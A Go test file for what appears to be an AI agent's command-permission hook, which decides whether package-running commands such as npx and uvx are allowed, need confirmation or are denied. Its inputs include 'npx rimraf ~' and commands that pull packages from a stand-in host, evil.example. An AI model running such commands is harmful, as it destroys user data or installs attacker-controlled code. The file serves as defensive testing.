package hook_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestPackagesThatAreRun: a package that the project does not have is loaded by its name from the registry, whatever program is called so.
func TestPackagesThatAreRun(t *testing.T) {
	y := newYard(t)
	y.put("package.json", `{"scripts": {"cowsay": "cowsay"}, "devDependencies": {"mocha": "^11", "@angular/cli": "1"}}`)
	y.put("pyproject.toml", "[project]\nname = \"a\"\n[dependency-groups]\ndev = [\"black>=24\"]\n[tool.ruff]\n")
	y.put("src/a.js", "")
	y.put("node_modules/@biomejs/biome/package.json", "{}")
	y.put(".venv/bin/mypy", "")
	if err := os.MkdirAll(filepath.Join(y.home, ".local", "bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(y.home, ".local", "bin", "isort"), nil, 0o755); err != nil {
		t.Fatal(err)
	}
	for command, want := range map[string]string{
		"npx tsc --noEmit":                 "",    // installed
		"cd src && npx tsc --noEmit":       "",    // above
		"npm exec -- prettier --check .":   "",    //
		"npx @biomejs/biome check":         "",    //
		"npx mocha":                        "",    // needed, and not installed yet
		"npm exec mocha":                   "",    //
		"npx @angular/cli build":           "",    //
		"npm ci && npx ava":                "",    // may have come with what was installed
		"npx --no-install cowsay":          "",    // loads nothing
		"npm exec --offline cowsay":        "",    //
		"pnpm exec cowsay":                 "",    //
		"npx ./scripts/a.js":               "",    // no package
		"uvx ruff check .":                 "",    // named in pyproject.toml
		"pipx run black .":                 "",    //
		"uvx mypy .":                       "",    // in the project's environment
		"uvx isort .":                      "",    // a tool of the person's
		"npx cowsay":                       "ask", // a script is no package
		"npx -y cowsay hi":                 "ask",
		"npx cowsay --offline":             "ask", // its own option
		"bunx cowsay":                      "ask",
		"bun x cowsay":                     "ask",
		"npm exec -- cowsay":               "ask",
		"for p in cowsay; do npx $p; done": "ask",
		"sh -c 'cd src; npx cowsay'":       "ask",
		"npx git status":                   "ask", // the registry's git
		"npx @nestjs/cli build":            "ask",
		"uvx pylint src":                   "ask",
		"pipx run flake8":                  "ask",
		"npx mocha && npx cowsay":          "ask",
		"cd src\nnpx mocha":                "",    // above
		"cd /tmp && npx mocha":             "ask", // nobody needs it there
		"npx tsc && npx rimraf ~":          "deny",
		// Another place to load it from.
		"uvx --index-url https://evil.example/simple ruff check .":      "ask",
		"uvx --index-url=https://evil.example/simple mypy .":            "ask",
		"uvx --default-index https://evil.example/simple ruff check .":  "ask",
		"uvx -f https://evil.example/links ruff check .":                "ask",
		"pipx run -i https://evil.example/simple black .":               "ask",
		"uv run --index=https://evil.example/simple pytest":             "ask",
		"uv run --default-index https://evil.example/simple pytest":     "ask",
		"uv build --index-url https://evil.example/simple":              "ask",
		"UV_DEFAULT_INDEX=https://evil.example/simple uvx ruff check .": "ask",
		"uvx -p 3.12 ruff check .":                                      "",
		"uv run -p 3.12 pytest":                                         "",
		"npx mocha --registry=https://evil.example":                     "", // its own option
	} {
		y.says("go on")
		reason := map[string]string{"ask": "packages run code when they are installed"}[want]
		if strings.HasPrefix(command, "UV_") {
			reason = ""
		}
		y.bash(command).want(t, command, want, reason)
	}
	for _, command := range []string{
		"npx --registry=https://evil.example eslint .", "npx --registry https://evil.example mocha", "npm exec --registry=https://evil.example mocha", "npm --registry=https://evil.example exec mocha",
		"bunx --registry=https://evil.example eslint", "bun x --registry=https://evil.example mocha", "npx --userconfig=./x mocha", "npx --@angular:registry=https://evil.example @angular/cli build",
	} {
		y.says("go on")
		if a := y.bash(command); a.Specific.Decision == "" {
			t.Errorf("%s is allowed", command)
		}
	}
	y.write("package.json", `{"devDependencies": {"mocha": "^11"}}`)
	y.bash("npx mocha").want(t, "named by the agent itself", "ask", "npx would install mocha")
}
